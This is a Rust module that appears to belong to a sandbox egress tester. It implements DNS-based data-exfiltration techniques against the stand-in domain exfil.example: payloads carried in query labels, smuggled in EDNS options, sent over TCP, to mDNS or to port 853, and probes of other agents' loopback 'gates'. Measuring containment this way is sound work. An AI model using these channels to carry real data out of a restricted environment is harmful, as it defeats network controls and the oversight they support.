//! Port 53, and names as a way out.

use crate::context::{Context, Evidence, Fault, Outcome, Technique};
use crate::sys::{self, Address};
use std::net::{IpAddr, Ipv4Addr, ToSocketAddrs};

const F: &str = "dns";

pub(crate) const TECHNIQUES: &[Technique] = &[
    Technique::new(F, "dns-udp4", |c| udp(c, libc::AF_INET, c.v4())),
    Technique::new(F, "dns-udp6", |c| udp(c, libc::AF_INET6, c.v6())),
    Technique::new(F, "dns-udp-mapped", |c| udp(c, libc::AF_INET6, c.mapped())),
    Technique::new(F, "dns-tcp", tcp),
    Technique::new(F, "dns-udp-not-dns", not_dns_udp),
    Technique::new(F, "dns-tcp-not-dns", not_dns_tcp),
    Technique::new(F, "dns-odd-type", odd_type),
    Technique::new(F, "dns-edns-option", edns_option),
    Technique::new(F, "dns-label", label),
    Technique::new(F, "dns-foreign-gate", foreign_gate).evidence(Evidence::Word),
    Technique::new(F, "dns-over-tls-port", |c| other_port(c, 853)),
    Technique::new(F, "mdns", |c| {
        let fd = sys::udp(libc::AF_INET)?;
        sys::sendto(
            &fd,
            &query(c, 1),
            0,
            &Address::new(Ipv4Addr::new(224, 0, 0, 251), 5353),
        )?;
        Ok("asked the neighbours".into())
    }),
];

/// A query for `<payload>.exfil.example` of a type.
fn query(c: &Context, kind: u16) -> Vec<u8> {
    let mut out = vec![0x77, 0x77, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in [c.bytes(), b"exfil", b"example"] {
        out.push(label.len() as u8);
        out.extend(label);
    }
    out.push(0);
    out.extend(kind.to_be_bytes());
    out.extend([0, 1]);
    out
}

/// Reads an answer if one comes; the result code is only told.
fn answer(fd: &std::os::fd::OwnedFd, at: usize) -> String {
    let mut buffer = [0u8; 4096];
    match sys::recv(fd, &mut buffer) {
        Ok(length) if length > at + 3 => format!("answer with rcode {}", buffer[at + 3] & 0x0f),
        Ok(length) => format!("answer of {length} bytes"),
        Err(fault) => format!("no answer, errno {}", fault.errno),
    }
}

fn ask(c: &Context, family: i32, to: IpAddr, query: &[u8]) -> Outcome {
    let fd = sys::udp(family)?;
    sys::sendto(&fd, query, 0, &Address::new(to, 53))?;
    let _ = c;
    Ok(answer(&fd, 0))
}

fn udp(c: &Context, family: i32, to: IpAddr) -> Outcome {
    ask(c, family, to, &query(c, 1))
}

fn tcp(c: &Context) -> Outcome {
    let fd = sys::tcp(libc::AF_INET)?;
    sys::connect(&fd, &Address::new(c.v4(), 53))?;
    let query = query(c, 1);
    let framed = [&(query.len() as u16).to_be_bytes(), query.as_slice()].concat();
    sys::send(&fd, &framed)?;
    Ok(answer(&fd, 2))
}

fn not_dns_udp(c: &Context) -> Outcome {
    ask(c, libc::AF_INET, c.v4(), c.bytes())
}

fn not_dns_tcp(c: &Context) -> Outcome {
    let fd = sys::tcp(libc::AF_INET)?;
    sys::connect(&fd, &Address::new(c.v4(), 53))?;
    crate::tcp::speak(c, &fd)
}

/// A private type number.
fn odd_type(c: &Context) -> Outcome {
    ask(c, libc::AF_INET, c.v4(), &query(c, 65_280))
}

/// A harmless name, with the payload in an EDNS option.
fn edns_option(c: &Context) -> Outcome {
    let mut out = vec![0x77, 0x77, 1, 0, 0, 1, 0, 0, 0, 0, 0, 1];
    out.extend(b"\x07allowed\x07example\x00\x00\x01\x00\x01");
    out.extend([0, 0, 41, 4, 208, 0, 0, 0, 0]);
    out.extend((4 + c.bytes().len() as u16).to_be_bytes());
    out.extend(65_001u16.to_be_bytes());
    out.extend((c.bytes().len() as u16).to_be_bytes());
    out.extend(c.bytes());
    ask(c, libc::AF_INET, c.v4(), &out)
}

/// The system's own resolver carries the payload out as a label.
fn label(c: &Context) -> Outcome {
    match (format!("{}.exfil.example", c.payload), 80).to_socket_addrs() {
        Ok(_) => Ok("resolved".into()),
        // A name that does not exist has still been asked for.
        Err(error) => Ok(format!("asked; {error}")),
    }
}

/// The gates of other agents, should they be open to everyone.
fn foreign_gate(c: &Context) -> Outcome {
    let mut last = Fault::new("no gate", libc::ECONNREFUSED);
    for slot in 1..=4 {
        let fd = sys::udp(libc::AF_INET)?;
        let gate = Address::new(Ipv4Addr::new(127, 64, 0, slot), c.port);
        if let Err(fault) = sys::connect(&fd, &gate).and_then(|()| sys::send(&fd, &query(c, 1))) {
            last = fault;
            continue;
        }
        match sys::recv(&fd, &mut [0; 512]) {
            Ok(_) => return Ok(format!("127.64.0.{slot} answered")),
            Err(fault) => last = fault,
        }
    }
    Err(last)
}

fn other_port(c: &Context, port: u16) -> Outcome {
    let fd = sys::udp(libc::AF_INET)?;
    sys::sendto(&fd, c.bytes(), 0, &Address::new(c.v4(), port))?;
    Ok(format!("sent to port {port}"))
}
